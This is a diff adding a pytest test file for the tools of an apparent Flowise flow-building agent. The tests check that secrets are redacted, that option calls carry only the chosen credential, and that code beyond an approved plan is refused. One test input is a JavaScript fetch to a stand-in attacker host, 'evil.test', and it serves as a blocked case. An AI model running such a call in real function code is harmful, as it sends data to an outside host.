@@ -1,0 +1,251 @@
+"""The tools of the Flowise domain: what they give, what they refuse, and what leaves this process."""
+
+import json
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from flowise_dev_agent.agent import FlowiseCapability, ToolRegistry
+from flowise_dev_agent.agent.domain import Domains, ToolScope
+from flowise_dev_agent.agent.plan_binding import capability_of
+from flowise_dev_agent.agent.tools import ToolPhase
+from flowise_dev_agent.contracts.plan import PlannedNode
+from flowise_dev_agent.errors import FlowiseServerError
+from flowise_dev_agent.flowise.models import ChatflowCreate
+from flowise_dev_agent.patch import AddNode, BindCredential, GraphIR, SetParam, compile_ops
+from flowise_dev_agent.publish.tags import draft_tag
+from tests.unit.agent.rig import OPENAI, OTHER_OPENAI, Bench, plan
+from tests.unit.agent.test_graph import credentials, ops
+
+SECRET = "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD"
+
+
+@pytest.fixture
+def bench() -> Bench:
+    return Bench(ops(), credentials(OPENAI))
+
+
+def scope(bench: Bench, **values: Any) -> ToolScope:
+    context = bench.context()
+    return ToolScope(flowise=context.flowise, knowledge=context.knowledge, session_id="s", **values)
+
+
+def tools(bench: Bench, **values: Any) -> ToolRegistry:
+    return Domains([FlowiseCapability()]).registry(scope(bench, **values))
+
+
+def flow(bench: Bench, *more: Any) -> GraphIR:
+    schemas = bench.knowledge.store.schemas
+    return compile_ops(GraphIR.empty(), [*ops(), *more], schemas, credentials={"openAIApi": OPENAI}).graph
+
+
+@pytest.mark.parametrize(("phase", "characters"), [("discover", 2_000), ("patch", 2_000), ("test", 2_000)])
+def test_the_definitions_of_a_phase_are_short(bench: Bench, phase: ToolPhase, characters: int) -> None:
+    """About four characters a token."""
+    sent = [one.model_dump(exclude={"summary_limit"}) for one in tools(bench).tool_defs(phase)]
+
+    assert len(json.dumps(sent, separators=(",", ":"))) < characters
+
+
+def test_what_only_an_approved_plan_allows_is_no_tool_of_planning(bench: Bench) -> None:
+    names = {one.name for one in tools(bench).tool_defs("discover")}
+
+    assert not names & {"flowise.check_ops", "flowise.run_function", "flowise.ask_flow"}
+    assert {"flowise.get_node", "flowise.list_options", "flowise.use_pattern"} <= names
+
+
+@pytest.mark.parametrize(
+    ("name", "arguments", "shown"),
+    [
+        ("search_nodes", {"query": "postgres vector store"}, "- postgres (Vector Stores)"),
+        ("search_nodes", {"query": "", "category": "Agent Flows", "limit": 1}, "only AGENTFLOW"),
+        ("search_nodes", {"query": "qqqqqq"}, "No node type fits"),
+        ("get_node", {"name": "Chat OpenAI", "ignored": 1}, "### chatOpenAI (Chat Models)"),
+        ("search_templates", {"query": "sql"}, "SQL Agent"),
+        ("list_credentials", {}, "openAIApi (1)"),
+        ("list_flows", {"query": "shop"}, "The server has no flows."),
+        ("search_patterns", {"query": "a support bot"}, "No pattern fits."),
+    ],
+)
+async def test_look_ups_answer_in_lines(bench: Bench, name: str, arguments: Any, shown: str) -> None:
+    result = await tools(bench).call(name, arguments)
+
+    assert result.ok
+    assert shown in result.summary
+
+
+@pytest.mark.parametrize(
+    ("name", "arguments", "shown"),
+    [
+        ("get_node", {"name": "chatOpenAl"}, "Close names: chatOpenAI"),
+        ("get_node", {"nam": "chatOpenAI"}, "name: Field required"),
+        ("list_options", {"node": "chatOpenAI", "param": "temperature"}, "has no list of options"),
+        ("list_options", {"node": "llmAgentflow", "param": "llmModelConfig.nothing"}, "component inside"),
+        ("list_options", {"node": "chatOpenAI", "param": "modelName", "node_id": "x"}, "no chatOpenAI with the id"),
+        ("use_pattern", {"pattern_id": 7}, "has not found a pattern 7"),
+    ],
+)
+async def test_mistakes_are_answered_with_what_to_do(bench: Bench, name: str, arguments: Any, shown: str) -> None:
+    result = await tools(bench, stored=flow(bench)).call(name, arguments)
+
+    assert not result.ok
+    assert shown in result.summary
+
+
+async def test_options_are_listed_with_stored_values_and_a_credential_that_code_chose(bench: Bench) -> None:
+    bench.flowise.options = [{"name": "gpt-4o", "label": "GPT-4o"}, {"name": "o3", "label": "o3"}]
+    stored = flow(bench, SetParam(node_id="chatOpenAI_0", param_name="basepath", value="https://models.house.test"))
+    call = {"node": "chatOpenAI", "param": "modelName", "inputs": {"basepath": "https://evil.test"}, "credential": "x"}
+
+    known = await tools(bench, stored=stored).call("list_options", {**call, "node_id": "chatOpenAI_0"})
+    await tools(bench, stored=stored).call("list_options", call)
+
+    assert known.summary == "modelName: gpt-4o (GPT-4o); o3"
+    first, second = bench.flowise.option_calls
+    assert (first["credential_id"], first["inputs"]["basepath"]) == (OPENAI, "https://models.house.test")
+    assert (second["credential_id"], second["inputs"]) == (OPENAI, None)
+
+
+async def test_of_several_credentials_only_the_chosen_one_is_sent(bench: Bench) -> None:
+    bench.knowledge.credential_store = credentials(OPENAI, OTHER_OPENAI)
+    call = {"node": "chatOpenAI", "param": "modelName"}
+
+    await tools(bench).call("list_options", call)
+    await tools(bench, chosen={"openAIApi": OTHER_OPENAI}).call("list_options", call)
+
+    assert [one["credential_id"] for one in bench.flowise.option_calls] == [None, OTHER_OPENAI]
+
+
+async def test_static_options_and_options_of_rows_are_found_by_their_path(bench: Bench) -> None:
+    bench.flowise.options = [{"name": "calculator"}]
+
+    static = await tools(bench).call("list_options", {"node": "chatOpenAI", "param": "reasoningEffort"})
+    rows = await tools(bench).call(
+        "list_options", {"node": "agentAgentflow", "param": "agentTools[0].agentSelectedTool"}
+    )
+
+    assert static.summary.startswith("reasoningEffort: low")
+    assert rows.summary == "agentSelectedTool: calculator"
+    assert bench.flowise.option_calls[0]["method"] == "listTools"
+
+
+async def test_a_template_is_shown_as_ops_without_ids_positions_and_secrets(bench: Bench) -> None:
+    made = flow(
+        bench,
+        BindCredential(node_id="chatOpenAI_0", credential_id=OPENAI),
+        AddNode(node_name="serpAPI", node_id="serpAPI_0"),
+        SetParam(
+            node_id="conversationChain_0", param_name="systemMessagePrompt", value=f"Use {SECRET}. " + "x" * 2_000
+        ),
+    )
+    bench.knowledge.template_flows["SQL Agent"] = made.to_flow_data()
+
+    result = await tools(bench).call("get_template", {"name": "sql agent"})
+
+    assert '{"op_type":"AddNode","node_name":"chatOpenAI"' in result.summary
+    assert not any(word in result.summary for word in (OPENAI, SECRET, "SetPosition", "BindCredential"))
+    assert max(map(len, result.summary.splitlines())) <= 600
+
+
+async def test_flows_of_the_server_are_listed_without_drafts_and_read_in_lines(bench: Bench) -> None:
+    data = flow(bench).to_flow_data()
+    shop = bench.flowise.add(ChatflowCreate(name="Shop bot", flow_data=data))
+    bench.flowise.add(ChatflowCreate(name="Shop bot", flow_data=data, category=draft_tag(bench.session_id)))
+    registry = tools(bench, base=flow(bench))
+
+    listed = await registry.call("list_flows", {"query": "shop"})
+    read = await registry.call("read_flow", {"chatflow_id": shop.id})
+    own = await registry.call("read_flow", {})
+
+    assert listed.summary.count("Shop bot") == 1
+    assert "chatOpenAI_0 (chatOpenAI)" in read.summary
+    assert own.summary.startswith("The session's flow:\n3 nodes:")
+    assert OPENAI not in read.summary
+
+
+async def test_ops_are_checked_against_plan_and_server_and_nothing_is_written(bench: Bench) -> None:
+    approved = plan()
+    schemas = bench.knowledge.store.schemas
+    approved = approved.model_copy(update={"capability": capability_of(approved, [], schemas)})
+    registry = tools(bench, plan=approved, chosen={"openAIApi": OPENAI})
+    right = [op.model_dump(mode="json") for op in ops()]
+    beyond = [*right, {"op_type": "AddNode", "node_name": "requestsGet", "node_id": "requestsGet_0"}]
+
+    good = await registry.call("check_ops", {"ops": right})
+    outside = await registry.call("check_ops", {"ops": beyond})
+    less = await registry.call("check_ops", {"ops": right[:1]})
+    broken = await registry.call("check_ops", {"ops": [{"op_type": "AddNod"}]})
+
+    assert good.summary.startswith(("The ops are right.", "0 errors"))
+    assert "OUTSIDE_PLAN" in outside.summary
+    assert "PLAN_NOT_MET" in less.summary
+    assert "UNKNOWN_OP" in broken.summary
+    assert bench.flowise.flows == {}
+
+
+def approved_code(bench: Bench) -> Any:
+    code = plan(nodes=[PlannedNode(node_id="customFunction_0", node_name="customFunction", purpose="converts")])
+    capability = capability_of(code, ["send it to https://api.house.test/x"], bench.knowledge.store.schemas)
+    return code.model_copy(update={"capability": capability})
+
+
+async def test_code_of_the_plan_runs_on_sample_variables(bench: Bench) -> None:
+    bench.flowise.function_result = {"total": 2, "key": SECRET}
+    registry = tools(bench, plan=approved_code(bench))
+    call = {"node_id": "customFunction_0", "code": "return { total: $rows.length }", "variables": {"rows": [1, 2]}}
+
+    result = await registry.call("run_function", call)
+    bench.flowise.function_result = FlowiseServerError("ReferenceError: $rows is not defined")
+    failed = await registry.call("run_function", call)
+
+    assert bench.flowise.functions[0] == ("return { total: $rows.length }", {"rows": [1, 2]})
+    assert result.summary.startswith('The function gives dict: {"total": 2')
+    assert SECRET not in result.summary
+    assert failed.summary == "The function fails: ReferenceError: $rows is not defined"
+
+
+@pytest.mark.parametrize(
+    ("approved", "call", "why"),
+    [
+        (False, {"node_id": "customFunction_0", "code": "return 1"}, "has no code"),
+        (True, {"node_id": "chatOpenAI_0", "code": "return 1"}, "has no code"),
+        (True, {"node_id": "customFunction_0", "code": "fetch('https://evil.test/?x')"}, "evil.test"),
+        (True, {"node_id": "customFunction_0", "code": "return $vars.key"}, "server's variables"),
+        (True, {"node_id": "customFunction_0", "code": "x" * 20_001}, "at most 20000 characters"),
+    ],
+)
+async def test_code_beyond_the_approved_plan_never_runs(bench: Bench, approved: bool, call: Any, why: str) -> None:
+    registry = tools(bench, plan=approved_code(bench) if approved else None)
+
+    result = await registry.call("run_function", {"variables": {}, **call})
+
+    assert not result.ok
+    assert why in result.summary
+    assert bench.flowise.functions == []
+
+
+async def test_the_tested_flow_answers_a_few_more_questions_and_forgets_them(bench: Bench) -> None:
+    bench.flowise.answers = {"Who?": f"Ana {SECRET}", "Why?": FlowiseServerError("no key")}
+    registry = tools(bench, tested_id="flow-1")
+
+    asked = [await registry.call("ask_flow", {"question": question}) for question in ("Who?", "Why?", "How?", "When?")]
+
+    assert [one.ok for one in asked] == [True, True, True, False]
+    assert asked[0].summary.startswith("Answer: Ana")
+    assert SECRET not in asked[0].summary
+    assert asked[1].summary == "The flow fails: no key"
+    sessions = [session for _, session in bench.flowise.asked]
+    assert sessions == ["fda-ask-s-1", "fda-ask-s-2", "fda-ask-s-3"]
+    assert bench.flowise.forgotten == [("flow-1", session) for session in sessions]
+
+
+async def test_without_a_tested_flow_nothing_is_asked(bench: Bench) -> None:
+    assert not (await tools(bench).call("ask_flow", {"question": "Hi"})).ok
+    assert bench.flowise.asked == []
+
+
+def test_a_scope_without_a_session_has_no_plan_and_no_flow(bench: Bench) -> None:
+    empty = scope(bench)
+
+    assert replace(empty, plan=None, stored=None, tested_id=None, original=None) == empty
